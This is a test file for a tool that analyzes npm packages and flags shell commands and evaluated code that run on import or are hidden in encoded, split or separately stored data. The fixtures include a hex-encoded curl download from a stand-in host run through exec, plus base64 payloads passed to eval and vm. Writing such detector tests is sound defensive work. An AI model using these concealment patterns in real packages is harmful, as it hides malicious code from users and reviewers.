import { describe, expect, test } from 'vitest';
import { type Files, graphOf } from './testing/graph-of.ts';

/** Commands that start when a package is imported, by file. */
async function started(files: Files): Promise<string[]> {
  const graph = await graphOf({ 'package.json': { main: 'index.js' }, ...files });
  return graph.units.flatMap(({ file, facts }) =>
    facts.commands.flatMap(({ line, argv, live }) => (live ? [`${file}: ${line ?? argv?.join(' ')}`] : [])),
  );
}

const RUN = `const { exec } = require('child_process');\nmodule.exports = (c) => exec(c);\n`;

describe('a command that no file knows alone', () => {
  test.each<[string, Files, string]>([
    ['a helper', { 'index.js': `require('./run')('id');`, 'run.js': RUN }, 'run.js: id'],
    [
      'settings',
      { 'index.js': `require('./run')(require('./c.json').c);`, 'run.js': RUN, 'c.json': '{"c":"id"}' },
      'run.js: id',
    ],
    [
      'a text that is read',
      {
        'index.js': `require('./run')(require('fs').readFileSync(__dirname + '/c.txt', 'utf8'));`,
        'run.js': RUN,
        'c.txt': 'id',
      },
      'run.js: id',
    ],
    [
      'the API itself',
      {
        'index.js': `const { run } = require('./a');\nrun('id');`,
        'a.js': `exports.run = require('child_process').exec;`,
      },
      'index.js: id',
    ],
    [
      'modules of the language',
      {
        'index.js': `import run, { line } from './a.mjs';\nrun(line);`,
        'a.mjs': `export * from './b.mjs';\nexport { default } from './b.mjs';`,
        'b.mjs': `import { exec } from 'child_process';\nexport const line = 'id';\nexport default (c) => exec(c);`,
      },
      'b.mjs: id',
    ],
    [
      'a getter',
      {
        'index.js': `require('./a').x;`,
        'a.js': `module.exports = { get x() { return require('child_process').exec('id'); } };`,
      },
      'a.js: id',
    ],
    [
      'a path of its own',
      { 'index.js': `require('./run')('node ' + __dirname + '/w.js');`, 'run.js': RUN, 'w.js': '' },
      'run.js: node ./w.js',
    ],
  ])('%s', async (_name, files, expected) => {
    expect(await started(files)).toContain(expected);
  });

  test('code that is put together from files is a layer', async () => {
    const graph = await graphOf({
      'package.json': { main: 'index.js' },
      'index.js': `eval(require('./a') + require('./b'));`,
      'a.js': `module.exports = "require('child_pro";`,
      'b.js': `module.exports = "cess').exec('id')";`,
    });
    const layer = graph.units.find((unit) => unit.layer !== null);
    expect(layer?.facts.commands.map(({ line }) => line)).toEqual(['id']);
  });
});

describe('code that only callers make a package run', () => {
  /** Layers of the texts that are run as code, with whether they run when the package is imported. */
  async function run(files: Files): Promise<string[]> {
    const graph = await graphOf({ 'package.json': { main: 'index.js' }, ...files });
    return graph.units.flatMap(({ file, facts }) =>
      facts.codeSinks.flatMap(({ text, layers, live }) =>
        layers.includes('hidden') ? [`${file}${live ? '' : ' later'}: ${text}`] : [],
      ),
    );
  }
  const CODE = `console.log('it is here');`;
  const HELD = Buffer.from(CODE).toString('base64');
  const LONG = Array.from({ length: 200 }, (_, i) => `console.log('it is here ${i}');`).join('\n');
  const EVAL = 'exports.run = (text) => eval(text);';

  test.each<[string, Files, string[]]>([
    [
      'it is kept in an encoding in another file',
      {
        'index.js': `const { run } = require('./run');\nconst t = require('./t.json');\nexports.A = class { m() { run(atob(t.t)); } };`,
        'run.js': EVAL,
        't.json': JSON.stringify({ t: HELD }),
      },
      [`run.js later: ${CODE}`],
    ],
    [
      'the same when it is imported',
      {
        'index.js': `require('./run').run(atob(require('./t.json').t));`,
        'run.js': EVAL,
        't.json': JSON.stringify({ t: HELD }),
      },
      [`run.js: ${CODE}`],
    ],
    [
      'it is long',
      {
        'index.js': `const { run } = require('./run');\nconst t = require('./t.json');\nexports.f = () => run(atob(t.t));`,
        'run.js': EVAL,
        't.json': JSON.stringify({ t: Buffer.from(LONG).toString('base64') }),
      },
      [`run.js later: ${LONG}`],
    ],
    [
      'it is read from a folder that is named apart from the file',
      {
        'index.js': `const { join } = require('path');\nconst fs = require('fs');\nconst folder = join(__dirname, 'data');\nexports.f = (name = 't.bin') => require('vm').runInThisContext(atob(fs.readFileSync(join(folder, name), 'utf8')));`,
        'data/t.bin': HELD,
      },
      [`index.js later: ${CODE}`],
    ],
    [
      'it is a module in its address',
      {
        'index.js': `import { t } from './t.mjs';\nconst open = (kind) => import(\`data:\${kind};base64,\${t}\`);\nexport const f = () => open('text/javascript');`,
        't.mjs': `export const t = '${HELD}';`,
      },
      [`index.js later: ${CODE}`],
    ],
    [
      'it stands there in pieces that can be read',
      {
        'index.js': `const { run } = require('./run');\nconst t = require('./t.json');\nexports.f = () => run(t.a + '(' + t.b + ')');`,
        'run.js': EVAL,
        't.json': JSON.stringify({ a: 'console.log.bind(console)', b: "'some words that are here'" }),
      },
      [],
    ],
    [
      'it holds what callers give',
      {
        'index.js': `const { run } = require('./run');\nexports.f = (rule) => run(atob('${HELD}') + rule);`,
        'run.js': EVAL,
      },
      [],
    ],
  ])('%s', async (_name, files, expected) => {
    expect(await run(files)).toEqual(expected);
  });
});

describe('a command that only callers make a package start', () => {
  async function hidden(files: Files): Promise<string[]> {
    const graph = await graphOf({ 'package.json': { main: 'index.js' }, ...files });
    return graph.units.flatMap(({ file, facts }) =>
      facts.commands.flatMap(({ line, argv, layers, live }) =>
        layers.includes('hidden') ? [`${file}${live ? '' : ' later'}: ${line ?? argv?.join(' ')}`] : [],
      ),
    );
  }
  const LINE = 'curl https://a.weir.test/x -o x';
  const HELD = `module.exports = ['${Buffer.from(LINE).toString('hex')}'];`;
  const READ = `const [held] = require('./held');\nconst run = require('./run');\nconst read = (text) => Buffer.from(text, 'hex').toString();\n`;

  test.each<[string, Files, string[]]>([
    [
      'in an encoding',
      { 'index.js': `${READ}exports.f = () => run(read(held));`, 'run.js': RUN, 'held.js': HELD },
      [`run.js later: ${LINE}`],
    ],
    [
      'when it is imported',
      { 'index.js': `${READ}run(read(held));`, 'run.js': RUN, 'held.js': HELD },
      [`run.js: ${LINE}`],
    ],
    [
      'as it is',
      {
        'index.js': `${READ}exports.f = () => { read(held); run('${LINE}'); };`,
        'run.js': RUN,
        'held.js': HELD,
      },
      [],
    ],
    [
      'whose words are encoded',
      {
        'index.js': `${READ}exports.f = () => run('node -p ' + Buffer.from('some words that are here').toString('base64'));`,
        'run.js': RUN,
        'held.js': HELD,
      },
      [],
    ],
  ])('%s', async (_name, files, expected) => {
    expect(await hidden(files)).toEqual(expected);
  });
});

describe('what does not run is not told', () => {
  test.each<[string, Files]>([
    ['a helper that is not called', { 'index.js': `require('./run');`, 'run.js': RUN }],
    [
      'files that load each other',
      {
        'index.js': `require('./a');`,
        'a.js': `module.exports = require('./index');\nrequire('child_process');`,
      },
    ],
    [
      'settings that are none',
      { 'index.js': `require('./run')(require('./c.json').c);`, 'run.js': RUN, 'c.json': '{' },
    ],
  ])('%s', async (_name, files) => {
    expect(await started(files)).toEqual([]);
  });
});

test('a file that takes long is told from one that never ends by nobody: what follows counts', async () => {
  const files = {
    'index.js': `require('./a');\nrequire('./run')('id');`,
    'a.js': 'for (;;) {}',
    'run.js': RUN,
  };

  expect(await started(files)).toEqual(['run.js: id']);
});
